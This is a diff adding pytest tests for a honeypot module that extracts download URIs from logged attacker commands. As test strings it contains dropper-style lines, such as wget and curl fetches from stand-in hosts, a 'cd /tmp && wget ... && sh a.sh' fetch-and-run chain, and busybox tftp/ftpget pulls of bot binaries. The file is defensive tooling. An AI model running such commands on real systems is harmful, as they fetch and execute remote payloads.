@@ -1,0 +1,73 @@
+"""Tests for URI extraction from command lines."""
+
+from repro.honeypot.uri import extract_uris, has_uri
+
+
+class TestUrlDetection:
+    def test_http(self):
+        assert extract_uris("wget http://198.51.100.7/bins.sh") == [
+            "http://198.51.100.7/bins.sh"
+        ]
+
+    def test_https(self):
+        assert extract_uris("curl https://evil.example/x.sh") == [
+            "https://evil.example/x.sh"
+        ]
+
+    def test_ftp_scheme(self):
+        assert extract_uris("wget ftp://h.example/payload") == ["ftp://h.example/payload"]
+
+    def test_multiple_urls_deduped(self):
+        uris = extract_uris(
+            "wget http://a.example/x || wget http://a.example/x; wget http://b.example/y"
+        )
+        assert uris == ["http://a.example/x", "http://b.example/y"]
+
+    def test_no_uri(self):
+        assert extract_uris("uname -a") == []
+        assert not has_uri("cat /proc/cpuinfo")
+
+    def test_url_mid_command(self):
+        assert extract_uris("cd /tmp && wget http://x.example/a.sh && sh a.sh") == [
+            "http://x.example/a.sh"
+        ]
+
+
+class TestToolForms:
+    def test_tftp_busybox_style(self):
+        assert extract_uris("tftp -g -r mips 203.0.113.9") == ["tftp://203.0.113.9/mips"]
+
+    def test_tftp_with_local_name(self):
+        uris = extract_uris("tftp -g -l bot -r mips.bin 203.0.113.9")
+        assert uris == ["tftp://203.0.113.9/mips.bin"]
+
+    def test_tftp_no_host(self):
+        assert extract_uris("tftp -g -r file") == []
+
+    def test_ftpget(self):
+        uris = extract_uris("ftpget -u anonymous -p pass 203.0.113.9 local.bin remote.bin")
+        assert uris == ["ftp://203.0.113.9/remote.bin"]
+
+    def test_ftpget_two_positional(self):
+        uris = extract_uris("ftpget 203.0.113.9 file.bin")
+        assert uris == ["ftp://203.0.113.9/file.bin"]
+
+    def test_scp_remote_path(self):
+        uris = extract_uris("scp user@198.51.100.5:/tmp/payload .")
+        assert uris == ["scp://user@198.51.100.5//tmp/payload"]
+
+    def test_plain_command_named_like_tool(self):
+        # "wget" with no URL-ish argument records nothing.
+        assert extract_uris("wget") == []
+
+    def test_non_fetch_tool_with_host_arg(self):
+        assert extract_uris("ping 8.8.8.8") == []
+
+    def test_absolute_path_tool(self):
+        assert extract_uris("/usr/bin/wget http://x.example/f") == ["http://x.example/f"]
+
+    def test_unparseable_quotes_fall_back(self):
+        # Unbalanced quotes must not crash extraction.
+        assert extract_uris('echo "unterminated http://x.example/f') == [
+            "http://x.example/f"
+        ]
